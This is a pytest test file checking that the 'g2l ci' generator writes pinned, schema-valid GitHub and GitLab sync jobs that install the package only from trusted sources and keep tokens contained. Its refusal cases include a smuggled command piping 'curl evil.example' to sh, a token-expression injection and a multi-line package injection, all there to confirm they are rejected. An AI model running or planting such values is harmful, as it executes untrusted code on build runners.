"""g2l ci: the generated GitHub workflow and GitLab job validate against their schemas, pin what they
run (actions by commit, the image by digest), install glue2lakehouse only from a source the team
controls (a git commit, a wheel with its hash, a private index; the job stops at once, in one line,
when none is set), and their shell, run against local bare remotes (all but opening the pull
request), pushes a sync branch and writes the pull request body."""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
from datetime import datetime, timezone
from pathlib import Path
from types import SimpleNamespace

import pytest
import yaml

from glue2lakehouse.ci import GITHUB_PATH, GITLAB_PATH, package_source, running_copy_source
from glue2lakehouse.errors import G2LError

from .helpers import commit_all, edit, g2l, git, glue_repo, new_repo, package_copy

BIN = Path(sys.executable).parent


SHA = "0123456789abcdef0123456789abcdef01234567"
HASH = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"

# --package values: the kind the job installs them as, or None and a piece of the one-line refusal.
PACKAGE_CASES = [
    (f"git+https://github.com/acme/glue2lakehouse@{SHA}", "git", None),
    (f"git+ssh://git@gitlab.acme.internal/platform/glue2lakehouse.git@{SHA}", "git", None),
    (f"git+https://github.com/acme/tools.git@{SHA}#subdirectory=glue2lakehouse", "git", None),
    (f"git+file:///srv/mirrors/glue2lakehouse@{SHA}", "git", None),
    (f"https://artifacts.acme.internal/pypi/glue2lakehouse-0.1.0-py3-none-any.whl#sha256={HASH}", "archive", None),
    (f"https://artifacts.acme.internal/src/glue2lakehouse-0.1.0.tar.gz#sha256={HASH}", "archive", None),
    ("/runner/dist/glue2lakehouse-0.1.0-py3-none-any.whl", "file", None),
    (f"file:///runner/dist/glue2lakehouse-0.1.0-py3-none-any.whl#sha256={HASH}", "file", None),
    ("glue2lakehouse==0.1.0", "index", None),
    ("acme-glue2lakehouse==2024.6.1", "index", None),
    ("glue2lakehouse", None, "looked up by name"),
    ("glue2lakehouse>=0.1", None, "looked up by name"),
    ("glue2lakehouse[spark]==0.1.0", None, "looked up by name"),
    ("git+https://github.com/acme/glue2lakehouse@v0.1.0", None, "full commit"),
    ("git+https://github.com/acme/glue2lakehouse", None, "full commit"),
    (f"git+https://github.com/acme/glue2lakehouse@{SHA[:12]}", None, "full commit"),
    ("https://artifacts.acme.internal/pypi/glue2lakehouse-0.1.0-py3-none-any.whl", None, "no hash"),
    (f"http://artifacts.acme.internal/glue2lakehouse-0.1.0-py3-none-any.whl#sha256={HASH}", None,
     "not a package source"),
    ("./dist", None, "not a package source"),
    (f"git+https://github.com/acme/glue2lakehouse@{SHA} ; curl evil.example | sh", None, "characters"),
    ("${{ github.token }}", None, "characters"),
]


def _bare(path: Path) -> Path:
    subprocess.run(["git", "init", "-q", "--bare", str(path)], check=True)
    return path


def _bash(script: str, cwd: Path, env: dict) -> subprocess.CompletedProcess:
    """A step's shell as the runners start it (GitHub: bash -e -o pipefail; GitLab: one bash script)."""
    return subprocess.run([shutil.which("bash"), "--noprofile", "--norc", "-eo", "pipefail", "-c", script], cwd=cwd,
                          env=env, capture_output=True, text=True)


def _written(tmp_path, kind: str, *args: str) -> dict:
    out = tmp_path / f"{kind}.yml"
    run = g2l(tmp_path, "ci", kind, "-o", str(out), "--force", *args)
    assert run.returncode == 0, run.stderr
    return yaml.safe_load(out.read_text())


def _install_step(kind: str, written: dict) -> tuple[str, dict]:
    """The install step's shell and the environment the CI gives it (settings left unset)."""
    if kind == "github":
        step = next(s for s in written["jobs"]["sync"]["steps"] if s.get("id") == "install")
        return step["run"], {k: _expand(v, Path("."), {}) for k, v in step.get("env", {}).items()}
    job = written["g2l-weekly-sync"]
    return job["script"][0], {k: str(v) for k, v in job["variables"].items()}


def _clean_env(*layers: dict, **extra: str) -> dict:
    """This process's environment without package settings or PYTHONPATH, then ``layers`` and ``extra``."""
    env = {k: v for k, v in os.environ.items()
           if k not in ("G2L_PACKAGE", "G2L_INDEX_URL", "PYTHONPATH", "VIRTUAL_ENV")}
    for layer in layers:
        env.update(layer)
    return {**env, **extra}


@pytest.mark.parametrize("kind, path, schema", [("github", GITHUB_PATH, "vendor.github-workflows"),
                                                ("gitlab", GITLAB_PATH, "vendor.gitlab-ci")])
def test_generated_file_validates(tmp_path, kind, path, schema):
    repo = new_repo(tmp_path / "dbx")
    run = g2l(repo, "ci", kind)
    assert run.returncode == 0, run.stderr
    check = subprocess.run([str(BIN / "check-jsonschema"), "--builtin-schema", schema, str(repo / path)],
                           capture_output=True, text=True)
    assert check.returncode == 0, check.stdout + check.stderr
    again = g2l(repo, "ci", kind)
    assert again.returncode == 2 and "already exists" in again.stderr and "--force" in again.stderr
    # Written with a package source too (then a literal value where the variable was).
    pinned = g2l(repo, "ci", kind, "--package", PACKAGE_CASES[0][0], "-o", str(tmp_path / "pinned.yml"))
    assert pinned.returncode == 0, pinned.stderr
    check = subprocess.run([str(BIN / "check-jsonschema"), "--builtin-schema", schema, str(tmp_path / "pinned.yml")],
                           capture_output=True, text=True)
    assert check.returncode == 0, check.stdout + check.stderr
    # The checker does fail on a broken workflow (so the pass above means something).
    (repo / path).write_text((repo / path).read_text().replace("runs-on:", "runs_on:").replace("script:", "scripts:"))
    broken = subprocess.run([str(BIN / "check-jsonschema"), "--builtin-schema", schema, str(repo / path)],
                            capture_output=True, text=True)
    assert broken.returncode == 1


@pytest.mark.parametrize("kind", ["github", "gitlab"])
def test_what_the_job_runs_is_pinned_and_never_installed_by_name_from_the_public_index(tmp_path, kind):
    text = (tmp_path / "out.yml")
    run = g2l(tmp_path, "ci", kind, "-o", str(text))
    assert run.returncode == 0, run.stderr
    written = text.read_text()
    # The only pip install is the guarded one, and it installs G2L_PACKAGE: no package name in the file.
    assert re.findall(r"pip install[^\n]*", written) == ['pip install "$@" "$G2L_PACKAGE"']
    assert "glue2lakehouse==" not in written
    # G2L_PACKAGE comes from the repository's settings; the output says which to set.
    _, step_env = _install_step(kind, yaml.safe_load(written))
    assert "G2L_PACKAGE" not in step_env if kind == "gitlab" else step_env["G2L_PACKAGE"] == ""
    assert "variable G2L_PACKAGE" in run.stdout
    if kind == "github":
        uses = re.findall(r"^\s*(?:- )?uses: (\S+)(.*)$", written, re.M)
        assert len(uses) == 3
        for action, comment in uses:
            assert re.fullmatch(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}", action), action
            assert re.fullmatch(r"\s+# v\d+\.\d+\.\d+", comment), comment
    else:
        image = yaml.safe_load(written)["g2l-weekly-sync"]["image"]
        assert re.fullmatch(r"python:3\.12@sha256:[0-9a-f]{64}", image)


def test_the_glue_token_reaches_only_the_glue_checkout_and_the_pull_request_uses_the_job_token(tmp_path):
    written = _written(tmp_path, "github")
    assert "secrets" not in json.dumps(written["env"])
    steps = {step.get("id") or step["name"]: step for step in written["jobs"]["sync"]["steps"]}
    where = {name for name, step in steps.items() if "G2L_GLUE_TOKEN" in json.dumps(step)}
    assert where == {"Check out the Glue repository"}
    glue = steps["Check out the Glue repository"]["with"]
    assert glue["token"] == "${{ secrets.G2L_GLUE_TOKEN || github.token }}"
    assert glue["persist-credentials"] is False  # not left in glue/.git/config for the steps after it
    assert {name for name, step in steps.items() if "secrets." in json.dumps(step)} == \
        {"Check out the Glue repository", "install"}  # and G2L_INDEX_URL, to pip only
    assert steps["install"]["env"]["G2L_INDEX_URL"] == "${{ secrets.G2L_INDEX_URL }}"
    assert steps["open-pr"]["env"]["GH_TOKEN"] == "${{ github.token }}"
    assert [name for name, step in steps.items() if "GH_TOKEN" in json.dumps(step)] == ["open-pr"]
    # Installing comes before any checkout: no token is on disk while the package's code is installed.
    order = list(steps)
    assert order.index("install") < order.index("Check out the Databricks repository")


@pytest.mark.parametrize("spec, kind, refusal", PACKAGE_CASES, ids=range(len(PACKAGE_CASES)))
def test_package_source(spec, kind, refusal):
    if kind:
        assert package_source(spec) == kind
    else:
        with pytest.raises(G2LError, match=re.escape(refusal)):
            package_source(spec)


def test_an_empty_package_is_refused():
    with pytest.raises(G2LError, match="--package is empty"):
        package_source("")


@pytest.fixture(scope="module")
def install_steps(tmp_path_factory):
    """The install step of both templates written without --package (G2L_PACKAGE set by the team)."""
    tmp = tmp_path_factory.mktemp("steps")
    steps = {}
    for kind in ("github", "gitlab"):
        out = tmp / f"{kind}.yml"
        run = subprocess.run([sys.executable, "-m", "glue2lakehouse", "ci", kind, "-o", str(out)], cwd=tmp,
                             capture_output=True, text=True)
        assert run.returncode == 0, run.stderr
        steps[kind] = _install_step(kind, yaml.safe_load(out.read_text()))
    return steps


@pytest.mark.parametrize("kind", ["github", "gitlab"])
def test_the_job_checks_the_package_source_as_g2l_ci_does(tmp_path, install_steps, kind):
    """Every case, through the job's own shell: what g2l ci refuses the job refuses at run time (one line,
    exit 2, before pip), what it accepts the job hands to pip (a PATH with grep and no python shows it got
    there)."""
    script, step_env = install_steps[kind]
    tools = tmp_path / "bin"
    tools.mkdir()
    (tools / "grep").symlink_to(shutil.which("grep"))
    for spec, accepted, refusal in PACKAGE_CASES:
        env = _clean_env(step_env, G2L_PACKAGE=spec, G2L_INDEX_URL="https://pypi.acme.internal/simple",
                         PATH=str(tools))
        result = _bash(script, tmp_path, env)
        if accepted:
            assert result.returncode == 127 and "python: command not found" in result.stderr, (spec, result.stderr)
        else:
            assert result.returncode == 2, (spec, result.stderr)
            assert result.stderr.count("\n") == 1 and result.stderr.startswith("g2l: G2L_PACKAGE ("), spec
    # A name and version without the private index is refused at run time too.
    env = _clean_env(step_env, G2L_PACKAGE="glue2lakehouse==0.1.0", PATH=str(tools))
    result = _bash(script, tmp_path, env)
    assert result.returncode == 2 and result.stderr.count("\n") == 1
    assert "G2L_INDEX_URL is not set" in result.stderr
    multi = _bash(script, tmp_path, _clean_env(step_env, G2L_PACKAGE=f"{PACKAGE_CASES[0][0]}\nevil==1.0",
                                               PATH=str(tools)))
    assert multi.returncode == 2 and "more than one line" in multi.stderr


@pytest.mark.parametrize("spec", ["glue2lakehouse", "git+https://github.com/acme/glue2lakehouse@main"])
def test_g2l_ci_refuses_a_package_source_the_team_does_not_control(tmp_path, spec):
    out = tmp_path / "wf.yml"
    run = g2l(tmp_path, "ci", "github", "--package", spec, "-o", str(out))
    assert run.returncode == 2 and run.stderr.count("\n") == 1
    assert run.stderr.startswith(f"g2l: error: --package '{spec}' ")
    assert not out.exists()


@pytest.mark.parametrize("kind, where", [("github", "repository variable G2L_PACKAGE"),
                                         ("gitlab", "CI/CD variable G2L_PACKAGE")])
def test_without_a_package_the_job_stops_at_once_saying_which_variable_to_set(tmp_path, kind, where):
    glue_remote = _bare(tmp_path / "glue.git")
    written = _written(tmp_path, kind)
    if kind == "github":
        steps = [s for s in written["jobs"]["sync"]["steps"] if "run" in s]
        assert steps[0]["id"] == "install"  # the first thing the job runs (after setup-python)
        script, step_env = _install_step(kind, written)
        env = _clean_env({k: str(v) for k, v in written["env"].items()}, step_env)
    else:
        job = written["g2l-weekly-sync"]
        script = "".join(job["script"])  # the whole job, in one shell
        env = _clean_env({k: str(v) for k, v in job["variables"].items()},
                         G2L_GLUE_REPOSITORY_URL=glue_remote.as_uri())
    project = new_repo(tmp_path / "builds" / "databricks")
    result = _bash(script, project, env)
    assert result.returncode == 2
    assert result.stderr.count("\n") == 1 and result.stdout == ""
    assert result.stderr.startswith(f"g2l: G2L_PACKAGE is not set: set the {where} to ")
    assert not (tmp_path / "builds" / "glue").exists()  # nothing after it ran


def _installed(ci_python: Path) -> dict | None:
    """pip's record (direct_url.json) of the glue2lakehouse installed in the CI's Python; {} from an index."""
    probe = ("import importlib.metadata as m\n"
             "print(m.distribution('glue2lakehouse').read_text('direct_url.json') or '{}')")
    # -I: only the venv's own packages (not the working directory, which may hold this repository's egg-info)
    run = subprocess.run([str(ci_python / "python"), "-I", "-c", probe], capture_output=True, text=True,
                         env=_clean_env())
    return json.loads(run.stdout) if run.returncode == 0 else None


def _uninstall(ci_python: Path) -> None:
    subprocess.run([str(ci_python / "python"), "-m", "pip", "uninstall", "-q", "-y", "glue2lakehouse"],
                   capture_output=True, env=_clean_env(), check=True)
    assert _installed(ci_python) is None


@pytest.fixture(scope="module")
def sources(tmp_path_factory):
    """glue2lakehouse as the team keeps it: a commit of their fork, the wheel built from it, and a
    private index (a PEP 503 folder) serving that wheel."""
    home = tmp_path_factory.mktemp("release")
    (home / ".gitconfig").write_text("[user]\n\tname = Release\n\temail = release@example.com\n")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("GIT_CONFIG_GLOBAL", str(home / ".gitconfig"))
        patch.setenv("GIT_CONFIG_NOSYSTEM", "1")
        fork = package_copy(tmp_path_factory.mktemp("fork") / "glue2lakehouse")
        commit = git(fork, "rev-parse", "HEAD").strip()
    dist = tmp_path_factory.mktemp("dist")
    subprocess.run([sys.executable, "-m", "pip", "wheel", "-q", "--no-deps", str(fork), "-w", str(dist)],
                   check=True, capture_output=True)
    wheel = next(dist.glob("glue2lakehouse-*.whl"))
    index = tmp_path_factory.mktemp("index") / "simple"
    (index / "glue2lakehouse").mkdir(parents=True)
    (index / "glue2lakehouse" / wheel.name).write_bytes(wheel.read_bytes())
    sha256 = hashlib.sha256(wheel.read_bytes()).hexdigest()
    (index / "glue2lakehouse" / "index.html").write_text(
        f'<!DOCTYPE html>\n<html><body><a href="{wheel.name}#sha256={sha256}">{wheel.name}</a></body></html>\n')
    return SimpleNamespace(git=f"git+{fork.as_uri()}@{commit}", fork=fork, commit=commit, wheel=wheel,
                           sha256=hashlib.sha256(wheel.read_bytes()).hexdigest(), index=index)


def test_install_step_installs_a_wheel_or_a_git_commit_given_with_package(tmp_path, ci_python, sources):
    path = f"{ci_python}{os.pathsep}{os.environ['PATH']}"
    # A wheel with its hash: pip checks it, and records what it installed.
    _uninstall(ci_python)
    script, step_env = _install_step("github", _written(tmp_path, "github", "--package",
                                                        f"{sources.wheel.as_uri()}#sha256={sources.sha256}"))
    result = _bash(script, tmp_path, _clean_env(step_env, PATH=path))
    assert result.returncode == 0, result.stderr
    assert _installed(ci_python) == {"url": sources.wheel.as_uri(), "archive_info": {
        "hash": f"sha256={sources.sha256}", "hashes": {"sha256": sources.sha256}}}
    # The same wheel under a hash it does not have is refused by pip, and nothing is installed.
    _uninstall(ci_python)
    script, step_env = _install_step("gitlab", _written(tmp_path, "gitlab", "--package",
                                                        f"{sources.wheel.as_uri()}#sha256={'0' * 64}"))
    result = _bash(script, tmp_path, _clean_env(step_env, PATH=path))
    assert result.returncode != 0 and "DO NOT MATCH THE HASHES" in result.stderr
    assert _installed(ci_python) is None
    # A commit of the team's fork (also what the end-to-end tests below install).
    script, step_env = _install_step("github", _written(tmp_path, "github", "--package", sources.git))
    result = _bash(script, tmp_path, _clean_env(step_env, PATH=path))
    assert result.returncode == 0, result.stderr
    installed = _installed(ci_python)
    assert installed["url"] == sources.fork.as_uri()
    assert installed["vcs_info"]["vcs"] == "git" and installed["vcs_info"]["commit_id"] == sources.commit
    # A pinned version from the team's private index, given in G2L_INDEX_URL.
    _uninstall(ci_python)
    script, step_env = _install_step("gitlab", _written(tmp_path, "gitlab", "--package", "glue2lakehouse==0.1.0"))
    result = _bash(script, tmp_path, _clean_env(step_env, PATH=path, G2L_INDEX_URL=sources.index.as_uri()))
    assert result.returncode == 0, result.stderr
    assert _installed(ci_python) == {}  # from an index: pip writes no direct_url.json


def test_g2l_ci_offers_the_exact_source_of_the_running_copy(tmp_path, ci_python, sources):
    """Run from a copy pip installed from a git commit (or a wheel), g2l ci says how to install that
    same copy in the job, from pip's direct_url.json."""
    path = f"{ci_python}{os.pathsep}{os.environ['PATH']}"
    _uninstall(ci_python)
    subprocess.run([str(ci_python / "python"), "-m", "pip", "install", "-q", sources.git], check=True,
                   capture_output=True, env=_clean_env(PATH=path))
    run = subprocess.run([str(ci_python / "g2l"), "ci", "github", "-o", str(tmp_path / "a.yml")], cwd=tmp_path,
                         capture_output=True, text=True, env=_clean_env(PATH=path))
    assert run.returncode == 0, run.stderr
    assert f"installed with: python -m pip install '{sources.git}'" in run.stdout
    assert f"g2l ci github --package '{sources.git}' --force" in run.stdout
    # Following that advice writes a job that installs that very commit.
    again = subprocess.run([str(ci_python / "g2l"), "ci", "github", "--package", sources.git, "-o",
                            str(tmp_path / "a.yml"), "--force"], cwd=tmp_path, capture_output=True, text=True,
                           env=_clean_env(PATH=path))
    assert again.returncode == 0, again.stderr
    step = _install_step("github", yaml.safe_load((tmp_path / "a.yml").read_text()))
    assert step[1]["G2L_PACKAGE"] == sources.git
    _uninstall(ci_python)
    subprocess.run([str(ci_python / "python"), "-m", "pip", "install", "-q", str(sources.wheel)], check=True,
                   capture_output=True, env=_clean_env(PATH=path))
    run = subprocess.run([str(ci_python / "g2l"), "ci", "gitlab", "-o", str(tmp_path / "b.yml")], cwd=tmp_path,
                         capture_output=True, text=True, env=_clean_env(PATH=path))
    assert run.returncode == 0, run.stderr
    assert f"'{sources.wheel.as_uri()}#sha256={sources.sha256}'" in run.stdout
    assert "publish it to your artifact store" in run.stdout


@pytest.mark.parametrize("direct_url, expected", [
    ({"url": "https://github.com/acme/glue2lakehouse", "vcs_info": {"vcs": "git", "commit_id": SHA,
                                                                     "requested_revision": "main"}},
     f"git+https://github.com/acme/glue2lakehouse@{SHA}"),
    ({"url": "https://github.com/acme/tools", "subdirectory": "g2l", "vcs_info": {"vcs": "git", "commit_id": SHA}},
     f"git+https://github.com/acme/tools@{SHA}#subdirectory=g2l"),
    ({"url": "https://artifacts.acme.internal/glue2lakehouse-0.1.0-py3-none-any.whl",
      "archive_info": {"hash": f"sha256={HASH}"}},
     f"https://artifacts.acme.internal/glue2lakehouse-0.1.0-py3-none-any.whl#sha256={HASH}"),
    ({"url": "https://artifacts.acme.internal/glue2lakehouse-0.1.0-py3-none-any.whl", "archive_info": {}}, None),
    ({"url": "file:///work/glue2lakehouse", "dir_info": {"editable": True}}, None),
    ({"url": "https://hg.acme.internal/g2l", "vcs_info": {"vcs": "hg", "commit_id": SHA}}, None),
    (None, None),
    ("{not json", None),
], ids=["git", "subdirectory", "wheel", "wheel-without-hash", "editable-folder", "mercurial", "from-an-index",
        "unreadable"])
def test_running_copy_source(direct_url, expected):
    text = direct_url if isinstance(direct_url, str) else json.dumps(direct_url) if direct_url else None
    assert running_copy_source(text) == expected


def _expand(value: str, workspace: Path, outputs: dict, settings: dict | None = None) -> str:
    """A '${{ }}' expression as the runner expands it; unset variables and secrets are empty."""
    def one(match):
        expr = match.group(1).strip()
        if expr == "github.workspace":
            return str(workspace)
        step = re.fullmatch(r"steps\.([\w-]+)\.outputs\.(\w+)", expr)
        if step:
            return outputs.get(step.group(2), "")
        setting = re.fullmatch(r"(?:vars|secrets)\.(\w+)", expr)
        if setting:
            return (settings or {}).get(setting.group(1), "")
        return "not-used-in-this-test"
    return re.sub(r"\$\{\{(.*?)\}\}", one, str(value))


def _outputs(path: Path) -> dict:
    if not path.exists():
        return {}
    return dict(line.split("=", 1) for line in path.read_text().splitlines() if "=" in line)


@pytest.fixture(scope="module")
def ci_python(tmp_path_factory):
    """What actions/setup-python (or GitLab's python image) leaves: a fresh Python to install into."""
    venv = tmp_path_factory.mktemp("ci") / "venv"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True)
    return venv / "bin"


def _remotes(tmp_path):
    """The Glue and Databricks repositories behind bare remotes, on a week where Glue changes a line
    Databricks changed too (a conflict) and adds a table read in another file."""
    glue = glue_repo(tmp_path, {"job.py": "x = 1\ny = 2\n",
                                "load.py": 'df = spark.read.table("risk_db.customers")\n'})
    glue_remote = _bare(tmp_path / "glue.git")
    git(glue, "push", "-q", glue_remote.as_uri(), "main")
    dbx = new_repo(tmp_path / "dbx")
    assert g2l(dbx, "init", "--glue", str(glue)).returncode == 0
    dbx_remote = _bare(tmp_path / "dbx.git")
    git(dbx, "remote", "add", "origin", dbx_remote.as_uri())
    assert g2l(dbx, "install").returncode == 0
    edit(dbx, "job.py", "y = 2\n", "y = 20  # databricks\n")
    commit_all(dbx, "databricks edit")
    git(dbx, "push", "-q")
    edit(glue, "job.py", "y = 2\n", "y = 3\n")
    edit(glue, "load.py", "\n", '\nlimits = spark.read.table("risk_db.credit_limits")\n')
    commit_all(glue, "week")
    git(glue, "push", "-q", glue_remote.as_uri(), "main")
    return glue_remote, dbx_remote, dbx, git(dbx_remote, "rev-parse", "main")


def _assert_proposed(dbx_remote, dbx, main_before, local, body_file, outputs):
    branch = f"glue-sync-{datetime.now(timezone.utc):%Y-%m-%d}"
    assert outputs == {"branch": branch, "changed": "true", "draft": "true"}
    # Pushed: the sync branch with the conflict markers committed, the snapshot refs; main untouched.
    assert git(dbx_remote, "rev-parse", "main") == main_before
    committed = git(dbx_remote, "show", f"{branch}:job.py")
    assert "<<<<<<< " in committed and "y = 20  # databricks\n" in committed and "y = 3\n" in committed
    assert git(dbx_remote, "rev-parse", "glue-upstream") != git(dbx, "rev-parse", "glue-upstream")
    assert git(dbx_remote, "rev-parse", "refs/notes/g2l") and git(dbx_remote, "rev-parse", "refs/g2l/glue-source")
    # The body: conflicts first, with their line range, then what Glue changed in meaning.
    body = body_file.read_text()
    assert body.startswith("> **This sync has 1 conflict(s)**")
    assert re.search(r"- `job\.py` \(lines \d+-\d+\): Glue and Databricks changed the same lines", body)
    assert "**table read** added: `risk_db.credit_limits` (table)" in body
    assert body.index("## Conflicts") < body.index("## What Glue changed in meaning")
    message = git(dbx_remote, "log", "-1", "--format=%B", branch)
    assert re.search(r"Conflicts:\n  job\.py \(lines \d+-\d+\): Glue and Databricks changed the same lines", message)
    # The report of the committed merge says the same.
    assert g2l(local, "report").stdout.rstrip("\n") == body.rstrip("\n")


def test_github_workflow_steps_push_a_sync_branch_and_write_the_body(tmp_path, ci_python, sources):
    glue_remote, dbx_remote, dbx, main_before = _remotes(tmp_path)
    # What actions/checkout leaves: both repositories side by side in the workspace.
    workspace = tmp_path / "ws"
    workspace.mkdir()
    subprocess.run(["git", "clone", "-q", dbx_remote.as_uri(), str(workspace / "databricks")], check=True)
    subprocess.run(["git", "clone", "-q", glue_remote.as_uri(), str(workspace / "glue")], check=True)

    assert g2l(dbx, "ci", "github", "--package", sources.git, "-o", str(tmp_path / "wf.yml")).returncode == 0
    workflow = yaml.safe_load((tmp_path / "wf.yml").read_text())
    steps = workflow["jobs"]["sync"]["steps"]
    assert steps[-1]["id"] == "open-pr"
    output_file = workspace / "github_output"
    env = {**os.environ, **{k: str(v) for k, v in workflow["env"].items()},
           "PATH": f"{ci_python}{os.pathsep}{os.environ['PATH']}", "GITHUB_OUTPUT": str(output_file),
           "GITHUB_WORKSPACE": str(workspace)}
    env.pop("G2L_PACKAGE", None)
    ran = []
    for step in steps[:-1]:  # everything but opening the pull request
        if "uses" in step:
            continue
        outputs = _outputs(output_file)
        condition = step.get("if")
        if condition:
            match = re.fullmatch(r"steps\.([\w-]+)\.outputs\.(\w+) == '(\w+)'", condition)
            assert match, condition
            if outputs.get(match.group(2)) != match.group(3):
                continue
        step_env = {**env, **{k: _expand(v, workspace, outputs) for k, v in step.get("env", {}).items()}}
        cwd = workspace / step.get("working-directory", ".")
        result = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]], cwd=cwd,
                                env=step_env, capture_output=True, text=True)
        assert result.returncode == 0, f"{step['name']}: {result.stdout}{result.stderr}"
        ran.append(step["id"])
    assert ran == ["install", "sync", "push"]
    _assert_proposed(dbx_remote, dbx, main_before, workspace / "databricks", workspace / "body.md",
                     _outputs(output_file))


def test_gitlab_job_script_pushes_a_sync_branch_and_writes_the_body(tmp_path, ci_python, sources):
    glue_remote, dbx_remote, dbx, main_before = _remotes(tmp_path)
    builds = tmp_path / "builds"
    builds.mkdir()
    project = builds / "databricks"  # what the runner's clone leaves: a detached HEAD
    subprocess.run(["git", "clone", "-q", dbx_remote.as_uri(), str(project)], check=True)
    git(project, "checkout", "-q", "--detach")
    assert g2l(dbx, "ci", "gitlab", "--package", sources.git, "-o", str(tmp_path / "gl.yml")).returncode == 0
    job = yaml.safe_load((tmp_path / "gl.yml").read_text())["g2l-weekly-sync"]
    assert "merge_requests" in job["script"][-1]
    # The CI/CD variables carry credentials, as on GitLab; git sends those https URLs to the local remotes.
    glue_url = "https://oauth2:glue-secret@glue.example/risk/glue.git"
    push_url = "https://oauth2:gitlab-secret@gitlab.example/team/databricks.git"
    hook_log = tmp_path / "hook-env.txt"
    env = {**os.environ, **{k: str(v) for k, v in job["variables"].items()},
           "PATH": f"{ci_python}{os.pathsep}{os.environ['PATH']}", "G2L_GLUE_REPOSITORY_URL": glue_url,
           "G2L_GITLAB_TOKEN": "gitlab-secret", "CI_SERVER_HOST": "gitlab.example",
           "CI_PROJECT_PATH": "team/databricks", "G2L_HOOK_LOG": str(hook_log)}
    for remote, url in ((glue_remote, glue_url), (dbx_remote, push_url)):
        subprocess.run(["git", "config", "--global", f"url.{remote.as_uri()}.insteadOf", url], check=True)
    env.pop("G2L_INDEX_URL", None)
    # Every git command in the Databricks clone from the checkout on records the environment it ran in.
    hook = project / ".git" / "hooks" / "reference-transaction"
    hook.write_text('#!/bin/sh\nenv >> "$G2L_HOOK_LOG"\n')
    hook.chmod(0o755)
    script = "".join(job["script"][:-1])  # everything but opening the merge request; one shell, as GitLab runs it
    result = _bash(script, project, env)
    assert result.returncode == 0, result.stdout + result.stderr
    _assert_proposed(dbx_remote, dbx, main_before, project, builds / "body.md", _outputs(builds / "g2l-outputs.env"))
    # The sync, the fetch and the push ran without the Glue URL's credentials or the access token in
    # their environment, and the Glue clone keeps its URL without the credentials.
    logged = hook_log.read_text()
    assert "G2L_BODY=" in logged and "glue-secret" not in logged and "gitlab-secret" not in logged
    assert git(builds / "glue", "remote", "get-url", "origin").strip() == "https://glue.example/risk/glue.git"
    assert "secret" not in (builds / "glue" / ".git" / "config").read_text()


def test_commit_conflicts_needs_a_new_branch(tmp_path):
    glue = glue_repo(tmp_path, {"job.py": "x = 1\n"})
    dbx = new_repo(tmp_path / "dbx")
    assert g2l(dbx, "init", "--glue", str(glue)).returncode == 0
    run = g2l(dbx, "sync", "--commit-conflicts")
    assert run.returncode == 2 and "--commit-conflicts needs --branch NAME" in run.stderr
